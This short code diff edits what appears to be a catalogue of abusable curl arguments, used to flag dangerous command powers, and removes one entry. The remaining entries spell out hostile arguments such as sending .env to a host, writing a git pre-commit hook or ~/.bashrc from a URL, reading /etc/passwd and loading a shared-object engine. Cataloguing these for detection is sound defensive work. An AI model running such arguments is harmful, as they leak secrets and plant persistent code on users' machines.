@@ -6,7 +6,6 @@ export default (): readonly Program[] => [
     powers: [
       { can: 'network-out', words: '-d @.env https://example.com', anywhere: true, seen: true },
       { can: 'write-any', words: '-o .git/hooks/pre-commit https://example.com/x' },
-      { can: 'network-in', words: 'https://example.com/x', mild: true, needs: 'remote-endpoint' },
       { can: 'read-any', words: '-s file:///etc/passwd', mild: true, seen: true },
       { can: 'exec', words: '--engine ./x.so http://example.com/', mild: true, needs: 'attacker-file', seen: true },
       { can: 'persist', words: '-s file:///etc/hostname -o ~/.bashrc', mild: true, seen: true },
